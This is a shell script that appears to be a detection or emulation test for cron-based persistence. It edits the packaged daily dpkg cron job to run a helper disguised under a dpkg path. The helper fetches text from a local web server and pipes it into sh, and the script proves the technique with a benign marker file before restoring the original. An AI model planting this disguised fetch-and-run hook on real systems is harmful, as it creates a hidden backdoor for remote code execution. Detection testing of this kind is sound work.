#!/bin/sh
# T1053.003 (quiet): A line added to a packaged daily script runs a helper of no package
M=/var/tmp/luytre-foothold N=03-cron-daily-changed
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
keep() { mkdir -p "$M/.keep/${1%/*}"; [ -e "$M/.keep/$1" ] || cp -a "$1" "$M/.keep/$1"; }
back() { [ -e "$M/.keep/$1" ] && cp -a "$M/.keep/$1" "$1" && rm -f "$M/.keep/$1"; }
serve() { # a page on loopback whose text writes the marker
  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(f"id > {sys.argv[2]}; chmod 666 {sys.argv[2]}\n".encode())
s = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H); s.timeout = 75; s.handle_request()
END
  sleep 0.4; }
plant() {
  keep /etc/cron.daily/dpkg
  sed -i '2i [ -x /usr/lib/dpkg/methods/apt/status ] && /usr/lib/dpkg/methods/apt/status' /etc/cron.daily/dpkg
  x /usr/lib/dpkg/methods/apt/status <<'E'
#!/bin/sh
(curl -fsSL http://127.0.0.1:47003/s || wget -qO- http://127.0.0.1:47003/s || python3 -c 'import urllib.request as u;print(u.urlopen("http://127.0.0.1:47003/s").read().decode())') | sh 2>/dev/null
E
}
prove() {
  rm -f "$M/$N"
  serve 47003
  run-parts --regex '^dpkg$' /etc/cron.daily
  seen
}
remove() {
  back /etc/cron.daily/dpkg; rm -f /usr/lib/dpkg/methods/apt/status
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
